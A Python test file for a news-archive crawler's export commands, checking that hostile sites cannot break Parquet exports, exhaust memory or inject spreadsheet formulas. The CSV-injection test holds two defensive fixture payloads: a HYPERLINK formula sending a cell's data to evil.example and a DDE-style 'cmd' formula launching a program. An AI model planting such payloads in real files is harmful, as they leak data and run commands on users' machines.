"""What a hostile site can put into the exports: it may only fail its own pages.

Each test crawls a local site built to attack one promise of the README, then runs
the commands a researcher runs on the crawl (``export``, ``load``), end to end.
"""

from __future__ import annotations

from pathlib import Path

import pyarrow.parquet as pq
import pytest
from support.crawls import QUIET, crawl_command, exported_articles, run_command, run_newsarchive
from support.warcsite import RawSite, Route, html_page, http_response

from newsarchive.server.generated import generated_article

HTML = [("Content-Type", "text/html; charset=utf-8")]
XML = [("Content-Type", "application/xml")]
TEXT = [("Content-Type", "text/plain")]
# Year 10000 in UTC: a valid RFC 3339 string that no UTC timestamp (Python, Arrow) holds.
NO_INSTANT = "9999-12-31T23:59:59-12:00"


def sitemap(urls: list[str], lastmod: str) -> bytes:
    entries = "".join(f"<url><loc>{u}</loc><lastmod>{lastmod}</lastmod></url>" for u in urls)
    return (
        '<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
        f"{entries}</urlset>"
    ).encode()


@pytest.mark.slow
def test_a_sitemap_date_beyond_any_instant_does_not_break_the_parquet_export(
    tmp_path: Path,
) -> None:
    """A lastmod of year 10000 UTC came through as ``provenance.discovered_via.lastmod``
    and the Parquet export of any folder holding it stopped with a traceback (exit 70),
    taking every other site's articles of the export with it."""
    articles = [generated_article(n) for n in (3, 4)]
    with RawSite() as site:
        base = site.base_url
        urls = [base + a.path for a in articles]
        site.routes["/robots.txt"] = Route(
            http_response("200 OK", TEXT, f"Sitemap: {base}/sitemap.xml\n".encode())
        )
        site.routes["/sitemap.xml"] = Route(http_response("200 OK", XML, sitemap(urls, NO_INSTANT)))
        site.routes["/"] = Route(http_response("200 OK", HTML, html_page("Home", [], 20)))
        for article in articles:
            site.routes[article.path] = Route(
                http_response("200 OK", HTML, article.render(base).encode())
            )
        done = run_command(crawl_command(base + "/", tmp_path / "crawl", settings=QUIET))
        assert done.returncode == 0, done.stderr[-3000:]
    records = exported_articles(tmp_path / "crawl")
    assert {r["url"] for r in records} == set(urls)
    assert all(r["provenance"]["discovered_via"]["type"] == "sitemap" for r in records)
    assert all(r["provenance"]["discovered_via"]["lastmod"] is None for r in records)
    out = tmp_path / "articles.parquet"
    exported = run_newsarchive("export", tmp_path / "crawl", "--format", "parquet", "--out", out)
    assert exported.returncode == 0, exported.stderr[-3000:]
    assert pq.read_table(out).num_rows == len(urls)


def test_a_record_already_holding_such_a_date_is_one_bad_row(tmp_path: Path, capsys) -> None:
    """Records written before the sitemap rule (or by hand) fail their row, not the export."""
    import json

    from newsarchive.cli import main
    from newsarchive.export.synthetic import synthetic_record

    records = [synthetic_record(i, "c1") for i in range(3)]
    records[1]["provenance"]["discovered_via"] = {
        "type": "sitemap",
        "url": None,
        "lastmod": NO_INSTANT,
    }
    source = tmp_path / "in.jsonl"
    source.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    out = tmp_path / "out.parquet"
    assert main(["export", str(source), "--out", str(out)]) == 1
    assert not out.exists()
    error = capsys.readouterr().err
    assert "outside the years a UTC timestamp holds" in error and "Traceback" not in error
    assert main(["export", str(source), "--out", str(out), "--keep-going"]) == 1
    assert pq.read_table(out).num_rows == 2


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
TAG_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.slow
def test_a_headline_a_spreadsheet_would_run_stays_text_in_the_csv(tmp_path: Path) -> None:
    """CSV is for spreadsheets: a cell starting with ``=`` (or ``+ - @``) is a formula
    there, so a page's headline ``=HYPERLINK(...)`` ran in the researcher's spreadsheet
    (CSV injection). The cell gets a ``'`` in front; ``load`` gives the headline back."""
    import csv

    import newsarchive

    article = generated_article(3)
    with RawSite() as site:
        base = site.base_url
        page = (
            article.render(base)
            .replace(article.headline, FORMULA.replace('"', "&quot;"))
            .replace('rel="tag">Harbourside<', f'rel="tag">{TAG_FORMULA}<')
        )
        site.routes["/"] = Route(
            http_response("200 OK", HTML, html_page("Home", [article.path], 20))
        )
        site.routes[article.path] = Route(http_response("200 OK", HTML, page.encode()))
        done = run_command(crawl_command(base + "/", tmp_path / "crawl", settings=QUIET))
        assert done.returncode == 0, done.stderr[-3000:]
    [record] = exported_articles(tmp_path / "crawl")
    assert record["headline"] == FORMULA and record["topics"][0] == TAG_FORMULA
    out = tmp_path / "articles.csv"
    exported = run_newsarchive("export", tmp_path / "crawl", "--format", "csv", "--out", out)
    assert exported.returncode == 0, exported.stderr[-3000:]
    with out.open(newline="", encoding="utf-8") as handle:
        [row] = list(csv.DictReader(handle))
    assert row["headline"] == "'" + FORMULA
    assert row["topics"].startswith("'" + TAG_FORMULA)
    assert not any(cell[:1] in ("=", "+", "-", "@") for cell in row.values())
    [again] = newsarchive.load(out)
    assert again["headline"] == FORMULA and again["topics"] == record["topics"]
    back = tmp_path / "back.jsonl"
    assert run_newsarchive("export", out, "--format", "jsonl", "--out", back).returncode == 0
    assert [r["headline"] for r in newsarchive.load(back)] == [FORMULA]


@pytest.mark.slow
def test_large_records_are_written_in_batches_bounded_by_their_text(tmp_path: Path) -> None:
    """``export`` held ``--batch-size`` (10,000) records in memory before writing: a site
    serving 16 MB pages (records three times that) made the export of every site's
    articles need hundreds of GB. A batch (and Parquet row group) now also ends at
    64 MB of text."""
    import json

    from newsarchive.export.convert import BATCH_TEXT_BYTES
    from newsarchive.export.synthetic import synthetic_record

    big = 2 * 1024 * 1024
    source = tmp_path / "big.jsonl"
    with source.open("w", encoding="utf-8") as handle:
        for number in range(20):
            record = synthetic_record(number, "c1")
            record["article_body"] = "word " * (big // 5)
            record["article_body_html"] = "<p>" + "w " * (big // 2) + "</p>"
            handle.write(json.dumps(record) + "\n")
    out = tmp_path / "big.parquet"
    done = run_newsarchive("export", source, "--format", "parquet", "--out", out)
    assert done.returncode == 0, done.stderr[-3000:]
    metadata = pq.ParquetFile(out).metadata
    assert metadata.num_rows == 20
    rows = [metadata.row_group(i).num_rows for i in range(metadata.num_row_groups)]
    # Each record holds 2 x 4 MB of text as text_size counts it: 8 of them fill a batch.
    assert max(rows) <= BATCH_TEXT_BYTES // (2 * 2 * big) and len(rows) >= 3


def test_a_resumed_crawl_reads_its_exported_batches_one_record_at_a_time(tmp_path: Path) -> None:
    """A crawl resumed into its folder learns what it exported from its batches; it held
    every record (all their text) in a list to do so, so a site of large pages made each
    resume need memory for the whole crawl's text. Bound: 8 MB, a few records, far
    under the 32 MB of the 32 records written (tracemalloc counts allocations, no clock)."""
    import tracemalloc

    from newsarchive.pipelines.dedupe import DedupePipeline

    from newsarchive.export.jsonl import JsonLinesBatchWriter
    from newsarchive.export.synthetic import synthetic_record

    with JsonLinesBatchWriter(tmp_path / "articles", "articles-c1", 8) as writer:
        for number in range(32):
            record = synthetic_record(number, "c1")
            record["article_body"] = f"{number} " + "x" * 1024 * 1024
            writer.write(record)
    pipeline = DedupePipeline()
    pipeline.out_dir = tmp_path
    tracemalloc.start()
    try:
        pipeline.open_spider()
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert len(pipeline.index.last) == 32
    assert peak < 8 * 1024 * 1024  # a few records (line and parsed copy) at a time
